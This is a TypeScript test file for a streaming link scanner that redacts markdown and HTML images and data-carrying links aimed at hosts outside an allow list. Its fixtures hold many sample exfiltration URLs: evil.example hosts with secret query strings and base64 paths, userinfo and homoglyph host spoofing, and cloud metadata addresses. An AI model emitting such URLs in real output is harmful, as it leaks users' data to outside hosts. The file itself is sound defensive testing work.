import { describe, expect, it } from "vitest";
import { isRiskyUrl, linkHoldFrom, linkScanner } from "../src/protect/links";
import type { OutputScanner } from "../src/protect/types";
import { chunks, drive } from "./protect-drive";

const ALLOWED = ["*.trusted.example", "cdn.example", "bücher.example"];
const redactor = (): OutputScanner => linkScanner({ action: "redact", allowedHosts: ALLOWED });
const once = (text: string, scanner = redactor()) => drive(scanner, [text]);

/** [input, expected output under `redact`, finding types] */
const CASES: Array<[string, string, string[]]> = [
  // Images load without a click: any host outside the list is a leak.
  ["![x](https://evil.example/p?q=secret)", "[image removed]", ["IMAGE_LINK"]],
  ["![logo](https://evil.example/logo.png)", "[image removed]", ["IMAGE_LINK"]],
  ["![logo](https://cdn.example/logo.png?v=2)", "![logo](https://cdn.example/logo.png?v=2)", []],
  ["![logo](https://img.trusted.example/a.png?x=1)", "![logo](https://img.trusted.example/a.png?x=1)", []],
  // Links need a click: only those that carry data count.
  ["[docs](https://evil.example/c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI)", "docs", ["LINK"]],
  ["[docs](https://evil.example/x/6f1ed002ab5595859014ebf0951522d9)", "docs", ["LINK"]],
  ["[docs](https://evil.example/guide/getting-started-with-python-3-12)", "[docs](https://evil.example/guide/getting-started-with-python-3-12)", []],
  ["[docs](https://evil.example/guide#section)", "docs", ["LINK"]],
  // The host is what follows the userinfo, whatever the userinfo says.
  ["[a](https://cdn.example@evil.example/)", "a", ["LINK"]],
  ["![a](https://cdn.example@evil.example/a.png)", "[image removed]", ["IMAGE_LINK"]],
  ["![a](HTTPS://EVIL.EXAMPLE/A.PNG)", "[image removed]", ["IMAGE_LINK"]],
  ["![a](HTTPS://CDN.EXAMPLE/A.PNG)", "![a](HTTPS://CDN.EXAMPLE/A.PNG)", []],
  ["![a](https://BÜCHER.example/a.png)", "![a](https://BÜCHER.example/a.png)", []],
  ["![a](https://xn--bcher-kva.example/a.png)", "![a](https://xn--bcher-kva.example/a.png)", []],
  ["![a](https://bucher.example/a.png)", "[image removed]", ["IMAGE_LINK"]],
  // Cyrillic "с": a different host from cdn.example once in punycode.
  ["![a](https://\u0441dn.example/a.png)", "[image removed]", ["IMAGE_LINK"]],
  ["[router](http://192.168.1.1/admin)", "router", ["LINK"]],
  ["[meta](http://2852039166/latest/)", "meta", ["LINK"]],
  ["![x](http://localhost:8080/a.png)", "[image removed]", ["IMAGE_LINK"]],
  ['<img src="https://evil.example/t.gif?d=abc">', "[image removed]", ["IMAGE_LINK"]],
  ["<img alt=\">\" src='https://evil.example/x.png' />", "[image removed]", ["IMAGE_LINK"]],
  ['<IMG SRC="https://ev\nil.example/x.png">', "[image removed]", ["IMAGE_LINK"]],
  ['<img srcset="https://cdn.example/a.png 1x, https://evil.example/b.png 2x">', "[image removed]", ["IMAGE_LINK"]],
  ['<img src="https://cdn.example/a.png">', '<img src="https://cdn.example/a.png">', []],
  ['<a href="https://evil.example/?q=1">click</a>', "click</a>", ["LINK"]],
  ["<a href=https://evil.example/about>about</a>", "<a href=https://evil.example/about>about</a>", []],
  ["![x][r]\n\n[r]: https://evil.example/x.png", "![x][r]\n\n[link removed]", ["IMAGE_LINK"]],
  ['![x][r]\n\n[r]:\n  <https://evil.example/x.png> "t"', '![x][r]\n\n[link removed] "t"', ["IMAGE_LINK"]],
  ["![x][r]\n\n[r]: https://cdn.example/x.png", "![x][r]\n\n[r]: https://cdn.example/x.png", []],
  ["see https://evil.example/?q=secret.", "see [link removed].", ["LINK"]],
  ["see <https://evil.example/?q=secret>", "see [link removed]", ["LINK"]],
  ["see https://evil.example/about.", "see https://evil.example/about.", []],
  ["(see https://evil.example/?q=1)", "(see [link removed])", ["LINK"]],
  ["![a [b] c](https://evil.example/x.png)", "[image removed]", ["IMAGE_LINK"]],
  ["[![x](https://evil.example/i.png)](https://cdn.example/)", "[[image removed]](https://cdn.example/)", ["IMAGE_LINK"]],
  ["[![x](https://cdn.example/i.png)](https://evil.example/?q=1)", "![x](https://cdn.example/i.png)", ["LINK"]],
  ['![x](https://evil.example/x.png "a title")', "[image removed]", ["IMAGE_LINK"]],
  ["[t](<https://evil.example/a b?q=1> 'title')", "t", ["LINK"]],
  ["![x](\n  https://evil.example/x.png\n)", "[image removed]", ["IMAGE_LINK"]],
  ["![x](https:\\\\evil.example\\x.png)", "[image removed]", ["IMAGE_LINK"]],
  ["![x](//evil.example/x.png)", "[image removed]", ["IMAGE_LINK"]],
  ["![x](&#104;ttps://evil.example/x.png)", "[image removed]", ["IMAGE_LINK"]],
  ["![x](https://evil.example/a_(b).png)", "[image removed]", ["IMAGE_LINK"]],
  // Relative and data: URLs reach no other host.
  ["![x](/static/x.png?v=1)", "![x](/static/x.png?v=1)", []],
  ["![x](data:image/png;base64,iVBORw0KGgo=)", "![x](data:image/png;base64,iVBORw0KGgo=)", []],
  ["an array a[i] and b[j](k) call", "an array a[i] and b[j](k) call", []],
  // An escaped "!" makes a link, an escaped backslash does not escape the "!" (CommonMark 2.4).
  ["\\![x](https://evil.example/?q=1)", "\\!x", ["LINK"]],
  ["\\\\![x](https://evil.example/?q=1)", "\\\\[image removed]", ["IMAGE_LINK"]],
];

describe("linkScanner: what counts as exfiltration", () => {
  for (const [input, expected, types] of CASES) {
    it(JSON.stringify(input), () => {
      const r = once(`Here: ${input} done.`);
      expect(r.text).toBe(`Here: ${expected} done.`);
      expect(r.findings.map((f) => f.type)).toEqual(types);
      for (const f of r.findings) expect(f).toMatchObject({ kind: "link", action: "redact" });
    });
  }

  it("leaves text alone under block, flag and shadow, and still reports", () => {
    for (const action of ["block", "flag", "shadow"] as const) {
      const text = "Here: ![x](https://evil.example/p?q=secret) done.";
      const r = once(text, linkScanner({ action, allowedHosts: [] }));
      expect(r.text).toBe(text);
      expect(r.findings).toEqual([{ kind: "link", type: "IMAGE_LINK", action }]);
    }
  });

  it("judges a URL that ends the response", () => {
    expect(once("go to https://u:p@evil.example").text).toBe("go to [link removed]");
    expect(once("go to http://169.254.169.254").text).toBe("go to [link removed]");
    expect(once("go to https://evil.example").text).toBe("go to https://evil.example");
    expect(once("go to https://evil.example/?q=1").text).toBe("go to [link removed]");
  });

  it("trusts no host by default, and `*` only public ones", () => {
    const none = linkScanner({ action: "redact", allowedHosts: [] });
    expect(once("![a](https://cdn.example/a.png)", none).text).toBe("[image removed]");
    const any = linkScanner({ action: "redact", allowedHosts: ["*"] });
    expect(once("![a](https://evil.example/a.png?q=1)", any).text).toBe("![a](https://evil.example/a.png?q=1)");
    expect(once("![a](http://169.254.169.254/latest/meta-data/)", any).text).toBe("[image removed]");
    expect(once("![a](http://[::1]/a.png)", any).text).toBe("[image removed]");
  });

  it("is inert under allow", () => {
    const s = linkScanner({ action: "allow", allowedHosts: [] });
    expect(s.holdFrom("![x](https://evil")).toBe(17);
    expect(s.apply("![x](https://evil.example/?q=1)", "")).toEqual({ text: "![x](https://evil.example/?q=1)", findings: [] });
  });

  it("judges URLs as the browser resolves them", () => {
    expect(isRiskyUrl("https://evil.example/a", false, [])).toBe(false);
    expect(isRiskyUrl("https://evil.example/a", true, [])).toBe(true);
    expect(isRiskyUrl("https://u:p@evil.example/", false, [])).toBe(true);
    expect(isRiskyUrl("https://aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE.evil.example/", false, [])).toBe(true);
    expect(isRiskyUrl("mailto:someone@evil.example?body=x", true, [])).toBe(false);
    expect(isRiskyUrl("not a url", true, [])).toBe(false);
  });
});

describe("linkScanner in a stream", () => {
  it("gives the same output however the text is split in two", () => {
    for (const [input] of CASES) {
      const text = `Here: ${input} done.`;
      const whole = once(text);
      for (let i = 1; i < text.length; i++) {
        const split = drive(redactor(), [text.slice(0, i), text.slice(i)]);
        expect({ i, text: split.text }).toEqual({ i, text: whole.text });
        expect(split.findings).toEqual(whole.findings);
      }
    }
  });

  it("gives the same output fed one character at a time", () => {
    const text = CASES.map(([input]) => input).join("\n\nand ");
    const whole = once(text);
    const split = drive(redactor(), [...text]);
    expect(split.text).toBe(whole.text);
    expect(split.findings).toEqual(whole.findings);
  });

  it("holds an unfinished link, image, tag or URL and nothing else", () => {
    const cases: Array<[string, number]> = [
      ["see ![alt](https://evil", 4],
      ["see ![alt", 4],
      ["see [text](", 4],
      ["see [text]", 4],
      ["see !", 4],
      ["see <im", 4],
      ['see <img src="https://evil.example/', 4],
      ["see https://evil.example/?q=", 4],
      ["see <https://evil", 4],
      ["see htt", 4],
      ["[r]: https://evil", 0],
      ["plain prose, nothing to hold.", 29],
      ["see [text](https://a.example/) done", 35],
      ["see [text] and more", 19],
    ];
    for (const [pending, expected] of cases) expect({ pending, hold: linkHoldFrom(pending) }).toEqual({ pending, hold: expected });
  });

  it("stops holding a lone `[` once it is far back", () => {
    const pending = `a [ note ${"x".repeat(250)}`;
    expect(linkHoldFrom(pending)).toBe(pending.length);
    expect(linkHoldFrom("a [ note xxx")).toBe(2);
    const line = `[Note: ${"x".repeat(250)}`;
    expect(linkHoldFrom(line)).toBe(line.length);
  });

  it("does not hold tags that load nothing", () => {
    expect(linkHoldFrom("x <div class")).toBe(12);
    expect(linkHoldFrom("x <di")).toBe(5);
    expect(linkHoldFrom("x <ifr")).toBe(2);
  });

  it("still catches an image whose opening bracket was released long before", () => {
    const alt = "word ".repeat(60);
    const r = drive(redactor(), [`![${alt}`, "](https://evil.example/x.png) end"]);
    expect(r.findings.map((f) => f.type)).toEqual(["IMAGE_LINK"]);
    expect(r.text).not.toContain("evil.example");
  });

  it("keeps the data of a URL cut by a forced release from reaching the host", () => {
    const pad = "a/".repeat(300);
    const image = drive(redactor(), chunks(`look ![x](https://evil.example/${pad}?q=secret) end`, 16), 64);
    expect(image.text).not.toMatch(/evil|secret/);
    expect(image.findings.map((f) => f.type)).toEqual(["IMAGE_LINK"]);

    const bare = drive(redactor(), chunks(`see https://evil.example/${pad}?q=secret more`, 16), 64);
    expect(bare.text).not.toContain("secret");
    expect(bare.text).toContain("[link removed] more");
    expect(bare.findings.map((f) => f.type)).toEqual(["LINK"]);

    const fine = `see https://cdn.example/${pad}?q=1 and ![x](https://cdn.example/${pad}?v=2) more`;
    expect(drive(redactor(), chunks(fine, 16), 64)).toEqual({ text: fine, findings: [] });
  });

  it("finishes on 1 MB of adversarial input, in one piece and streamed", () => {
    const patterns = ["![", "[a](", "http://", "](", "<img ", "<a href=\"", "[a](<", "](x \"", "](x (", "[", "]", "\\"];
    for (const p of patterns) {
      const text = p.repeat(Math.ceil(1_000_000 / p.length));
      expect(typeof once(text).text).toBe("string");
      const r = drive(redactor(), chunks(text, 4096));
      expect(r.text.length).toBeGreaterThan(0);
    }
  });
});
